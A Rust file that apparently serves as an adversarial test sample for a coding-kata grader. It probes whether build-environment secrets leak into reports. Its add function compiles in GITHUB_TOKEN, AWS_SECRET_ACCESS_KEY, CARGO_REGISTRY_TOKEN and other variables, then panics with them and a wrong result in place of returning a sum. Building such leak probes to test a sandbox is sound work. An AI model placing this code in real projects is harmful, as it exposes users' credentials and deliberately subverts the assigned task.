//! Class 2: build-environment leaks that always compile: option_env! of KATA_CANARY,
//! CARGO_HOME, tokens and HOME, embedded in add's panic message (shown in reports).
pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

macro_rules! grab {
    ($($k:literal),*) => {
        [$(($k, ::core::option_env!($k))),*]
    };
}

const LEAK: [(&str, Option<&str>); 10] = grab!(
    "KATA_CANARY", "CARGO_HOME", "HOME", "USER", "CARGO_REGISTRY_TOKEN", "GITHUB_TOKEN",
    "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "RUSTUP_HOME", "KATA_KATAS"
);

pub fn add(a: u64, b: u64) -> u64 {
    let mut s = String::new();
    for (k, v) in LEAK {
        s.push_str(&format!("{k}={} ", v.unwrap_or("-")));
    }
    panic!("build env: {s} result {}", a.wrapping_sub(b))
}
